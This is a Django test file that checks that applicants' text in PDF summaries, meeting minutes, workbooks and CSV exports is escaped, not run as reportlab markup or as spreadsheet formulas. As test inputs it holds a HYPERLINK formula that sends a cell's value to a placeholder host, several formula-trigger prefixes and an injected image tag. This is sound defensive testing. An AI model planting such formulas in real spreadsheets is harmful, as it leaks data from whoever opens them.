"""Outputs encoded (issue 10, findings 4 and 5): people's text in the summary PDFs, the minutes and the workbooks is
shown as typed — never read as reportlab markup, never run as a spreadsheet formula — and 10,000 characters of it
do not break a document."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook
from reportlab.lib.styles import ParagraphStyle

from tests.platform.conftest import World, through_employer
from tests.platform.test_intake_pages import open_window  # noqa: F401  (a fixture)
from zhicheng.accounts.models import Organisation
from zhicheng.accounts.roles import OrgKind, Role
from zhicheng.applications import services
from zhicheng.cases.models import Application
from zhicheng.documents import pdf
from zhicheng.documents.workbooks import append_row, csv_row
from zhicheng.records.models import Profile

MARKUP = "同意<b>推荐"
IMAGE = '<img src="/local.png"/>'
FORMULA = '=HYPERLINK("http://example.invalid/?q="&B3,"土木工程")'
LONG = "经审核，材料真实完整，同意推荐。" * 625  # 10,000 characters
HOSTILE_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def _client(member: Any) -> Client:
    c = Client()
    c.force_login(member.user)
    return c


def _no_image(document: bytes) -> None:
    assert document.startswith(b"%PDF-")
    assert b"/Subtype /Image" not in document and b"local.png" not in document


def test_para_shows_markup_as_text() -> None:
    style = ParagraphStyle("t", fontName=pdf.cjk_font(), fontSize=9)
    bold = pdf.para(MARKUP, style)
    assert "".join(f.text for f in bold.frags) == MARKUP  # the tag is characters of the text
    image = pdf.para(IMAGE, style)
    assert "".join(f.text for f in image.frags) == IMAGE and not any(hasattr(f, "cbDefn") for f in image.frags)
    assert pdf.escape_text("一\n二 & 三") == "一<br/>二 &amp; 三"


def test_summary_pdfs_and_workbooks_keep_hostile_text_as_text(
    open_window: None,  # noqa: F811
    county_case: dict[str, Any],
    submit: Any,
    world: World,
) -> None:
    application = county_case["application"]
    profile = Profile.objects.get(user=county_case["applicant"].user)
    facts = dict(profile.facts)
    facts["education"] = [{**facts["education"][-1], "major": FORMULA}]
    Profile.objects.filter(pk=profile.pk).update(facts=facts)
    user = county_case["applicant"].user
    user.full_name = "@SUM(1+1)*cmd"
    user.save()
    submit(county_case)
    through_employer(application, county_case["leader"])
    services.perform(county_case["hr"], application.pk, "approve", reason=f"{MARKUP}{IMAGE}")
    services.perform(county_case["iit"], application.pk, "approve", reason=LONG)

    channel = _client(county_case["iit"])
    channel_pdf = channel.get("/channel/summary.pdf")
    assert channel_pdf.status_code == 200
    _no_image(channel_pdf.content)
    sheet = load_workbook(io.BytesIO(channel.get("/channel/summary.xlsx").content)).active
    assert sheet is not None
    major = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert major.data_type == "s" and major.quotePrefix
    opinions = next(c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and MARKUP in c.value)
    assert IMAGE in opinions.value and LONG in opinions.value

    assert channel.post("/channel/submit/").status_code == 302
    office = world.person("office", Role.COMMITTEE_CLERK, Organisation.objects.get(kind=OrgKind.COMMITTEE_OFFICE))
    desk = _client(office)
    batch = Application.objects.get(pk=application.pk).batch_entry.batch_id
    batch_pdf = desk.get(f"/office/batches/{batch}/summary.pdf")
    assert batch_pdf.status_code == 200
    _no_image(batch_pdf.content)
    batch_sheet = load_workbook(io.BytesIO(desk.get(f"/office/batches/{batch}/summary.xlsx").content)).active
    assert batch_sheet is not None
    assert all(c.data_type != "f" for row in batch_sheet.iter_rows() for c in row)
    export = load_workbook(io.BytesIO(desk.get("/office/export.xlsx").content)).active
    assert export is not None
    applicant = next(c for row in export.iter_rows() for c in row if c.value == "@SUM(1+1)*cmd")
    assert applicant.data_type == "s" and applicant.quotePrefix


@pytest.mark.parametrize("text", HOSTILE_STARTS)
def test_every_formula_start_is_written_as_text(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, [text, "土木工程", 3, -2])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert row[0].value.strip() == text.strip()  # (XML reads a carriage return as a line feed)
    assert row[0].data_type == "s" and row[0].quotePrefix
    assert not row[1].quotePrefix and row[2].value == 3 and row[3].value == -2  # numbers stay numbers


def test_csv_fields_that_look_like_formulas_start_with_a_quote() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE_STARTS, "土木工程", 5, None]))
    fields = next(csv.reader(io.StringIO(out.getvalue())))
    assert fields == [f"'{t}" for t in HOSTILE_STARTS] + ["土木工程", "5", ""]


def test_the_minutes_print_hostile_opinions_as_text(world: World) -> None:
    from tests.platform.test_evaluation import Spec, accepted
    from zhicheng.evaluation.groups import build_groups
    from zhicheng.evaluation.meeting import prepare_meeting
    from zhicheng.evaluation.minutes import minutes_pdf
    from zhicheng.evaluation.models import Candidate, Meeting

    cases = accepted(world, [Spec("m1"), Spec("m2")])
    build_groups(cases.office, 2023)
    first, second = Candidate.objects.order_by("pk")
    Candidate.objects.filter(pk=first.pk).update(opinion=f"{MARKUP}{IMAGE}")
    Candidate.objects.filter(pk=second.pk).update(opinion=LONG)
    prepare_meeting(cases.office, 2023, first.application.created_at.date())
    document = minutes_pdf(Meeting.objects.get(year=2023))
    _no_image(document)
